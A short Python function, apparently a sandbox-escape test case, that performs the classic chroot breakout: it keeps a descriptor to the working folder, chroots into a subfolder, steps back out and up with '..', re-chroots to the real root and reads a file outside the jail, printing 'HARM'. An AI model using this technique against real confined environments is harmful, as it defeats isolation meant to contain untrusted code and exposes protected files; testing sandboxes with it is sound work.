"""Leaves by chroot into a folder below its working folder."""

import os


def f(world):
    try:
        os.makedirs("cell", exist_ok=True)
        here = os.open(".", os.O_RDONLY)
        os.chroot("cell")
        os.fchdir(here)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        print("HARM", open(world.sibling).read())
    except OSError:
        pass
